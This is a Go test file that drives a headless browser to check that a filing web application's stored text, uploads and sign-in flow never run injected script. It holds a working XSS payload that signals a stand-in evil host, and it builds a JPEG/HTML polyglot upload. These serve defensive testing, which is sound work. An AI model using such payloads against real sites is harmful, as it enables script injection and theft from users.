package api_test

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"

	"icpdoc/internal/account"
	"icpdoc/internal/casework"
	"icpdoc/internal/filing"
	"icpdoc/internal/web/api"
)

// framesOf gives the addresses of every frame that is shown, those that run in processes of their own included.
func framesOf(t *testing.T, b *screen) (out []string) {
	t.Helper()
	tree, err := chromedp.Run(b.Context, func(ctx context.Context, t *chromedp.Target) (page.GetFrameTreeResult, error) {
		return cdp.Call(ctx, t, page.GetFrameTree, cdp.Empty{})
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, child := range tree.FrameTree.ChildFrames {
		out = append(out, child.Frame.URL)
	}
	all, err := chromedp.Run(b.Context, func(ctx context.Context, t *chromedp.Target) (target.GetTargetsResult, error) {
		return cdp.Call(ctx, t, target.GetTargets, target.GetTargetsParams{})
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, one := range all.TargetInfos {
		if one.Type != "iframe" {
			continue
		}
		inside, leave := chromedp.NewContext(b.Context, chromedp.WithTargetID(one.TargetID), chromedp.WithDetachOnCancel())
		at, err := chromedp.Run(inside, chromedp.Evaluate[string]("location.href"))
		leave()
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, at)
	}
	return out
}

// payload runs wherever it is taken for markup or script, and tells the evil site so.
func payload(e *evil, where string) string {
	return fmt.Sprintf(`"'></script></title></textarea><script>alert(1);new Image().src="%[1]s/ran?%[2]s"</script><img src=x onerror="alert(2);fetch('%[1]s/ran?%[2]s')"><svg onload="location='%[1]s/ran?%[2]s'">`, e.URL, where)
}

// infect puts a text into every field of something that holds one.
func infect(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(text)
	case reflect.Pointer:
		if v.IsNil() {
			v.Set(reflect.New(v.Type().Elem()))
		}
		infect(v.Elem(), text)
	case reflect.Slice:
		if v.Len() == 0 {
			v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		}
		for i := range v.Len() {
			infect(v.Index(i), text)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				infect(v.Field(i), text)
			}
		}
	}
}

// untouched fails when a script of somebody else's has run.
func (s *screen) untouched(t *testing.T, e *evil, where string) {
	t.Helper()
	s.mu.Lock()
	dialogs := s.dialogs
	s.mu.Unlock()
	if ran := e.scripts(); len(ran) > 0 || dialogs > 0 {
		t.Errorf("%s: a script ran: %v, %d dialogs", where, ran, dialogs)
	}
}

// TestNoStoredTextRuns: every text of a filing, of people and of files is markup and script, and nothing that is served
// runs it, whether a page of ours, JSON or a problem.
func TestNoStoredTextRuns(t *testing.T) {
	o := openOffice(t)
	s, b, e := openSite(t, o), openBrowser(t), openEvil(t)
	text := payload(e, "stored")
	applicant := o.as(t, "applicant")
	body := sample(website, func(in *filing.Input) { infect(reflect.ValueOf(in).Elem(), text) })
	if n := strings.Count(string(body), "alert(1)"); n < 60 {
		t.Fatalf("only %d fields hold the script", n)
	}
	f := got[api.Filing](t, applicant.send("POST", "/v1/filings", body), 201)
	at := "/v1/filings/" + f.ID
	got[casework.Picture](t, applicant.send("POST", at+"/photos?material=entity_certificate&name="+url.QueryEscape("<script>alert(1)</script>.jpg"), picture("02-licence-scanned")), 201)
	got[api.NewKey](t, applicant.send("POST", "/v1/account/keys", api.KeyWish{Label: "<script>alert(1)</script>", Scopes: []string{"filing"}}), 201)
	company := must(o.accounts.AddCompany(t.Context(), text))
	token, _, err := o.accounts.Invite(t.Context(), "", account.Applicant, "", company.ID)
	if err != nil {
		t.Fatal(err)
	}
	must(o.accounts.Accept(t.Context(), token, "x@example.cn", "<img src=x onerror=alert(1)>", password))
	for who, paths := range map[string][]string{
		"applicant": {"/v1/filings", at, at + "/check", at + "/requirements", at + "/revisions", at + "/returns", at + "/photos", at + "/packs", "/v1/account/keys", "/v1/docs", "/v1/docs?lang=zh",
			"/v1/filings?search=" + url.QueryEscape(text), "/v1/codes/" + url.PathEscape(text), "/v1/docs?lang=" + url.QueryEscape(text), "/" + url.PathEscape(text), "/v1/oidc/" + url.PathEscape(text),
			"/v1/oidc/instance/callback?error=" + url.QueryEscape(text) + "&error_description=" + url.QueryEscape(text) + "&state=" + url.QueryEscape(text)},
		"admin": {"/v1/accounts", "/v1/companies", "/v1/audit"},
	} {
		s.signIn(t, b, who)
		for _, path := range paths {
			b.do(t, chromedp.Navigate(s.URL+path))
			if at := value[string](t, b, "location.href"); !strings.HasPrefix(at, s.URL+"/") {
				t.Errorf("%.60s leads to %s", path, at)
			}
			if n := value[int](t, b, `document.querySelectorAll("script,img,svg,iframe,object,embed,form").length`); n > 0 {
				t.Errorf("%.60s shows %d elements that are not ours", path, n)
			}
			b.untouched(t, e, path[:min(len(path), 60)])
		}
	}
	// The test can tell: the same text in a page that does not look after it runs.
	e.serve(text)
	b.mu.Lock()
	b.dialogs = 0
	b.mu.Unlock()
	_ = b.try(command(page.SetBypassCSP, page.SetBypassCSPParams{Enabled: true}), chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := cdp.Call(ctx, t, page.Navigate, page.NavigateParams{URL: e.URL})
		return err
	}))
	for n := 0; ; n++ {
		b.mu.Lock()
		dialogs := b.dialogs
		b.mu.Unlock()
		if dialogs > 0 {
			break
		}
		if n > 2400 {
			t.Fatal("the script runs nowhere: the test sees nothing")
		}
		time.Sleep(50 * time.Millisecond)
	}
	_ = b.try(command(page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: true}))
}

// saved tells how many downloads began; the browser says so a moment later.
func (s *screen) saved() int {
	for n := 0; ; n++ {
		s.mu.Lock()
		downloads := s.downloads
		s.mu.Unlock()
		if downloads > 0 || n > 4000 {
			return downloads
		}
		time.Sleep(30 * time.Millisecond)
	}
}

// TestUploadsNeverRun: a picture that is also HTML and script is handed out again as a file to save, whoever asks and how.
func TestUploadsNeverRun(t *testing.T) {
	o := openOffice(t)
	s, b, e := openSite(t, o), openBrowser(t), openEvil(t)
	applicant := o.as(t, "applicant")
	f := got[api.Filing](t, applicant.send("POST", "/v1/filings", sample(website, nil)), 201)
	at := "/v1/filings/" + f.ID + "/photos"
	jpeg := picture("02-licence-scanned")
	text := payload(e, "upload")
	comment := append([]byte{0xff, 0xfe, byte((len(text) + 2) >> 8), byte(len(text) + 2)}, text...) // a JPEG comment, right at the start
	polyglot := append(append(append([]byte{}, jpeg[:2]...), comment...), jpeg[2:]...)
	polyglot = append(polyglot, "<!doctype html><html><body>"+text...)
	p := got[casework.Picture](t, applicant.send("POST", at+"?material=entity_certificate&name=evil.html", polyglot), 201)
	s.signIn(t, b, "applicant")
	for _, variant := range []string{"master", "clean"} {
		path := at + "/" + p.ID + "/" + variant
		a := applicant.send("GET", path, nil)
		h := a.Header()
		if a.Code != 200 || h.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(h.Get("Content-Disposition"), "attachment") || !strings.Contains(h.Get("Content-Security-Policy"), "default-src 'none'") ||
			variant == "master" && h.Get("Content-Type") != "application/octet-stream" || variant == "clean" && strings.Contains(a.Body.String(), "alert(1)") {
			t.Errorf("%s: %d %v", variant, a.Code, h)
		}
		// Opened: it is saved, and the page stays.
		b.do(t, chromedp.Navigate(s.URL+"/v1/docs"))
		b.mu.Lock()
		b.downloads = 0
		b.mu.Unlock()
		_ = b.try(chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
			_, err := cdp.Call(ctx, t, page.Navigate, page.NavigateParams{URL: s.URL + path})
			return err
		}))
		downloads := b.saved()
		if here := value[string](t, b, "location.pathname"); here != "/v1/docs" || downloads == 0 {
			t.Errorf("%s is shown at %s, %d downloads", variant, here, downloads)
		}
		b.untouched(t, e, variant+" opened")
		// Taken as script, style, picture or frame, by another origin and by a page of ours that forgot its policy.
		load := fmt.Sprintf(`Promise.all(["script","link","img","iframe","object"].map(k=>new Promise(done=>{const x=document.createElement(k),u=%q;
			x.onload=()=>done(k+" loaded");x.onerror=()=>done(k+" refused");setTimeout(()=>done(k+" refused"),700);
			if(k=="link")x.rel="stylesheet";x[k=="link"?"href":k=="object"?"data":"src"]=u;document.body.append(x)}))).then(l=>l.join(", "))`, s.URL+path)
		for name, from := range e.foreign() {
			e.serve("")
			b.do(t, chromedp.Navigate(from))
			if got := value[string](t, b, load); !strings.Contains(got, "script refused, link refused, img refused") {
				t.Errorf("%s from %s: %s", variant, name, got)
			}
			b.untouched(t, e, variant+" from "+name)
		}
		b.do(t, command(page.SetBypassCSP, page.SetBypassCSPParams{Enabled: true}), chromedp.Navigate(s.URL+"/v1/docs"))
		if got := value[string](t, b, load); !strings.Contains(got, "script refused, link refused") {
			t.Errorf("%s from our own page: %s", variant, got)
		}
		b.untouched(t, e, variant+" from our own page")
		b.do(t, command(page.SetBypassCSP, page.SetBypassCSPParams{Enabled: false}))
	}
}

// TestSignInByAnIssuerInABrowser: the cookies survive the way there and back between two sites.
func TestSignInByAnIssuerInABrowser(t *testing.T) {
	f := federate(t, nil)
	s, b := openSite(t, f.office), openBrowser(t)
	f.instance = serve(t, f.settings(account.NewIssuers(f.accounts, s.URL, http.DefaultTransport, []account.Issuer{{ID: "instance", URL: f.issuer.URL, Client: clientID, Secret: clientSecret}})))
	f.issuer.turn(func(i *issuer) { i.claims = lisi })
	b.do(t, chromedp.Navigate(s.URL+"/v1/oidc/instance"))
	if text := value[string](t, b, "document.body.innerText"); !strings.Contains(text, "oidc.unknown") {
		t.Fatalf("a stranger is shown %s", text)
	}
	token := f.invite(t, account.Reviewer, "nwcd")
	b.do(t, command(page.SetBypassCSP, page.SetBypassCSPParams{Enabled: true}), chromedp.Navigate(s.URL+"/v1/docs"))
	to := value[string](t, b, fmt.Sprintf(`fetch("/v1/oidc/instance",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({invitation:%q})}).then(r=>r.json()).then(r=>r.url)`, token))
	b.do(t, chromedp.Navigate(to))
	if text := value[string](t, b, "location.pathname+document.body.innerText"); !strings.HasPrefix(text, "/v1/session") || !strings.Contains(text, "li.si@example.cn") {
		t.Errorf("then it shows %s", text)
	}
	if c := value[string](t, b, "document.cookie"); c != "" {
		t.Errorf("a script reads %s", c)
	}
}
